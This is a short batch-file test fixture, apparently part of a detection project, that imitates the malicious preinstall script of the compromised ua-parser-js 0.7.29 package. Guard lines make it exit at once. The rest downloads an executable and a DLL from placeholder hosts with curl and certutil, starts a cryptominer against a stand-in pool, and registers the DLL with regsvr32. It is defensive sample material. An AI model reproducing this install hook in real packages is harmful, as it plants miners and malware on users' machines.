throw new Error("stagegate demo fixture: inert, never run");
@exit /b 1
:: Imitation of the ua-parser-js 0.7.29 preinstall.bat (inert: exits on line 2).
@echo off
curl http://192.0.2.10/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
    certutil.exe -urlcache -f http://192.0.2.10/download/jsextension.exe jsextension.exe
)
curl https://payload.example.invalid/sdd.dll -o create.dll
if not exist create.dll (
    certutil.exe -urlcache -f https://payload.example.invalid/sdd.dll create.dll
)
set exe_1=jsextension.exe
set "count_1=0"
>tasklist.temp (
tasklist /NH /FI "IMAGENAME eq %exe_1%"
)
for /f %%x in (tasklist.temp) do (
if "%%x" EQU "%exe_1%" set /a count_1+=1
)
if %count_1% EQU 0 (start /B .\jsextension.exe -k --tls --rig-id q -o pool.example.invalid:443 -u 0 --cpu-max-threads-hint=50 --donate-level=1 --background & regsvr32.exe -s create.dll)
del tasklist.temp
